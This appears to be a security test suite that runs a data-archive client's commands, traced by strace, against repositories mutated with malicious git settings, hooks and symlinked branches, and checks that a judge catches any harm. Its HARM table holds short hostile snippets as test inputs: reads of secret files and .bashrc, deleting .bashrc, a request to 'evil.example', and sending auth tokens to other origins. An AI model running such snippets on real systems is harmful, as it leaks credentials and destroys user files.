"""A short form of the campaign of hostile repositories; ``python -m tests.hostile`` is the whole one."""

from __future__ import annotations

import os
import random
import shutil
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.hostile.repositories.campaign import Found, Hostile, campaign, chosen, environment, examine, table
from tests.hostile.repositories.catalogue import CATALOGUE
from tests.hostile.repositories.judge import Judge
from tests.hostile.repositories.stage import (
    CLONE,
    FOREIGN_TOKEN,
    MARKER,
    MIRROR,
    OWN_TOKEN,
    Stage,
    World,
    staged,
)
from tests.hostile.repositories.watching import watch
from tests.hostile.repositories.world import begin

pytestmark = pytest.mark.skipif(not shutil.which("strace"), reason="strace is not installed")
FEW = 7
"""Commands in a repository of the short form."""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with begin(tmp_path_factory.mktemp("world")) as made:
        yield made


@pytest.fixture
def stage(world: World, request: pytest.FixtureRequest) -> Iterator[Stage]:
    with staged(world, CLONE, f"judged-{random.randrange(10**9)}") as made:
        yield made


def told(found: Found) -> list[str]:
    return [f"{found.hostile}: {command}: {problem.kind}: {problem.detail}" for command, problem in found.problems]


@pytest.mark.parametrize("kind", [CLONE, MIRROR])
def test_what_others_made_does_no_harm_by_some_commands(world: World, kind: str) -> None:
    seed = 7  # the same in every run of the suite; `python -m tests.hostile --seed N` looks for new ones
    fitting = [name for name, mutation in CATALOGUE.items() if kind in mutation.kinds]
    names = tuple(random.Random(seed).sample(fitting, 3))
    found = examine(world, Hostile(f"short-{seed}", kind, names), FEW)
    assert told(found) == [], f"seed {seed}"
    assert found.runs >= FEW


@pytest.mark.slow
@pytest.mark.parametrize("kind", [CLONE, MIRROR])
def test_where_nothing_is_wrong_nothing_is_found_and_every_command_is_run(world: World, kind: str) -> None:
    found = examine(world, Hostile(f"honest-{kind}", kind, ()))
    assert told(found) == []
    assert found.runs > 25 and found.codes[0] >= 15


@pytest.mark.slow
def test_three_hundred_hostile_repositories_do_no_harm_by_any_command() -> None:
    found = campaign(chosen(300, 1), min(4, os.cpu_count() or 1))
    assert not any(one.problems for one in found), table(found)


@pytest.mark.parametrize("kind", [CLONE, MIRROR])
def test_a_program_that_the_settings_of_a_repository_name_is_not_run(world: World, kind: str) -> None:
    commands = (["get", "-n", "."], ["upload", "-n"]) if kind == CLONE else (["sync"], ["status"])
    with staged(world, kind, f"fsmonitor-{kind}") as stage:
        for name in ("git config: core.fsmonitor", "hooks: all of them"):
            CATALOGUE[name].change(stage)
        judge = Judge(stage)
        judge.begin()
        for command in commands:
            seen = watch(command, stage.top, environment(stage), stage.folder / "trace")
            assert list(judge.problems(seen)) == [], command


def test_a_branch_that_is_a_link_to_a_secret_is_not_read_and_the_secret_is_not_printed(world: World) -> None:
    with staged(world, CLONE, "branch-link") as stage:
        CATALOGUE["ref: the branch is a link"].change(stage)
        judge = Judge(stage)
        judge.begin()
        seen = watch(["ls", "."], stage.top, environment(stage), stage.folder / "trace")
        found = {problem.kind for problem in judge.problems(seen)}
    assert not found & {"a secret was printed", "a file elsewhere was opened"}


def test_the_same_seed_makes_the_same_repositories_and_each_kind_of_harm_stands_alone_in_enough_of_them() -> None:
    assert chosen(300, 1) == chosen(300, 1) != chosen(300, 2)
    everything = chosen(1000, 1)
    alone = {(one.kind, one.mutations[0]) for one in everything if len(one.mutations) == 1}
    assert alone == {(kind, each.name) for each in CATALOGUE.values() for kind in each.kinds}
    assert len(CATALOGUE) >= 300 and len({one.seed for one in everything}) == 1000


def test_every_kind_of_harm_can_be_done(world: World) -> None:
    """A mutation that fails by itself would be a repository with which nothing is wrong."""
    for kind in (CLONE, MIRROR):
        for name in random.sample([name for name, each in CATALOGUE.items() if kind in each.kinds], 6):
            with staged(world, kind, f"made-{random.randrange(10**9)}") as made:
                CATALOGUE[name].change(made)


HARM: dict[str, tuple[str, Callable[[Stage], str]]] = {
    "reads": ("a file elsewhere was opened", lambda stage: f"open({str(stage.victim / 'files/secret.txt')!r})"),
    "reads a home": ("a file of the home was opened", lambda stage: f"open({str(stage.home / '.bashrc')!r}).read()"),
    "reads by a link": ("a file elsewhere was opened", lambda stage: (
        f"os.symlink({str(stage.victim)!r}, 'way'); open('way/files/secret.txt')")),
    "reads a device": ("a device was opened", lambda stage: "open('/dev/zero').read(1)"),
    "writes": ("a file elsewhere was changed", lambda stage: f"open({str(stage.victim / 'new')!r}, 'w')"),
    "writes where nobody looks": (
        "a file elsewhere was opened to write", lambda stage: "open('/var/tmp/x-dandi', 'w')"),
    "touches": ("a file elsewhere was changed", lambda stage: f"os.utime({str(stage.home / '.bashrc')!r})"),
    "removes": ("a file elsewhere was changed", lambda stage: f"os.unlink({str(stage.home / '.bashrc')!r})"),
    "copies": ("a secret was copied", lambda stage: f"open({str(stage.out / 'x')!r}, 'w').write({MARKER!r})"),
    "shows": ("a secret was printed", lambda stage: f"print({MARKER!r})"),
    "asks another port": ("another port was asked", lambda stage: f"urlopen({stage.world.listener.origin + '/x'!r})"),
    "asks another host": ("another host was asked", lambda stage: "urlopen('http://evil.example/x')"),
    "calls another address": ("another address was called", lambda stage: "socket.create_connection(('127.0.0.1', 9))"),
    "sends the key elsewhere": ("a token left", lambda stage: (
        f"urlopen(Request({stage.world.listener.origin + '/x'!r}, headers={{'Authorization': {OWN_TOKEN!r}}}))")),
    "sends DANDI's key to this archive": ("a token left", lambda stage: (
        f"urlopen(Request({stage.world.server.api_url + '/info/'!r}, headers={{'X': {FOREIGN_TOKEN!r}}}))")),
    "prints the key": ("a token left", lambda stage: f"print({FOREIGN_TOKEN!r})"),
    "runs a program": ("a program of the repository was run", lambda stage: f"os.system({stage.tool!r})"),
    "fails": ("exit code 1", lambda stage: "raise SystemExit(1)"),
    "fails, and says why": ("git does not read it", lambda stage: "raise SystemExit('git ended')"),
    "fails in its own words": ("a traceback", lambda stage: "raise ValueError('x')"),
    "prints what turns text around": ("a control character was printed", lambda stage: "print(chr(0x202e))"),
    "takes memory": ("it took too much memory", lambda stage: "bytearray(400 << 20)"),
}  # fmt: skip
PROGRAM = "import os, socket, sys\nfrom urllib.request import Request, urlopen\ntry:\n    {}\nexcept OSError: pass"


@pytest.mark.parametrize("harm", HARM)
def test_the_judge_sees_a_program_that(stage: Stage, harm: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tests.hostile.repositories.judge.MEMORY", 300 << 20)
    kind, program = HARM[harm]
    judge = Judge(stage)
    judge.begin()
    trace = stage.folder / "trace"
    seen = watch(["-c", PROGRAM.format(program(stage))], stage.top, environment(stage), trace, (sys.executable,))
    assert kind in {problem.kind for problem in judge.problems(seen)}
    Path("/var/tmp/x-dandi").unlink(missing_ok=True)


def test_the_judge_ends_a_program_that_does_not_end_and_all_that_it_started(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tests.hostile.repositories.watching.SECONDS", 1)
    judge = Judge(stage)
    judge.begin()
    program = "import subprocess\nsubprocess.run(['sleep', '77777'])"
    seen = watch(["-c", program], stage.top, environment(stage), stage.folder / "trace", (sys.executable,))
    assert "it did not end in time" in {problem.kind for problem in judge.problems(seen)}


def test_an_honest_command_is_not_accused(stage: Stage) -> None:
    judge = Judge(stage)
    judge.begin()
    seen = watch(["ls", "."], stage.top, environment(stage), stage.folder / "trace")
    assert list(judge.problems(seen)) == [] and seen.code == 0 and "sub-0" in seen.output
